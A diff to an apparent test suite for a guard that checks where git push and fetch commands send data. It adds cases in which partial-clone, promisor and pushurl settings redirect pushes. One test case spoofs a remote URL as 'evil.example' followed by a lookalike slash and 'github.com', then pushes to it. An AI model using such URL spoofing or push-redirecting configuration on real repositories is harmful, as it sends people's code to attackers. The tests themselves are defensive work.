@@ -297,7 +297,7 @@ test("R-21 a rule for push or fetch covers a repository with ordinary settings",
     "git remote add -t main -m main origin https://a:b@127.0.0.1:9/x; git config branch.main.remote origin; " +
       "git config branch.main.merge refs/heads/main; git config user.name b; git config core.fsmonitor false; " +
       "git init -q up; git -C up -c user.name=a -c user.email=b commit -q --allow-empty -m x; " +
-      "git -c protocol.file.allow=always submodule add -q ./up sub; git config pull.rebase true",
+      "git -c protocol.file.allow=always submodule add -q ./up sub; git config pull.rebase true; git config remote.origin.tagopt --no-tags",
   );
   assertMatch(await at.run("git fetch"), /^exit code: 128/);
   assertMatch(await at.run("git push origin main"), /^exit code: 128/);
@@ -396,6 +396,16 @@ const ELSEWHERE: [prepare: string, command: string, where?: string][] = [
   ["git remote set-url origin https://evil.example\u2215github.com/x", "git push"],
   [
     "git config core.repositoryformatversion 1; git config extensions.partialclone https://127.0.0.1:9/y",
+    "git push origin main",
+    "https://127.0.0.1:9/x or https://127.0.0.1:9/y",
+  ],
+  [
+    "git config remote.origin.pushurl https://127.0.0.1:9/y; git config remote.origin.promisor true",
+    "git push origin main",
+    "https://127.0.0.1:9/y or https://127.0.0.1:9/x",
+  ],
+  [
+    "git remote add lazy https://127.0.0.1:9/y; git config remote.lazy.partialclonefilter blob:none",
     "git push origin main",
     "https://127.0.0.1:9/x or https://127.0.0.1:9/y",
   ],
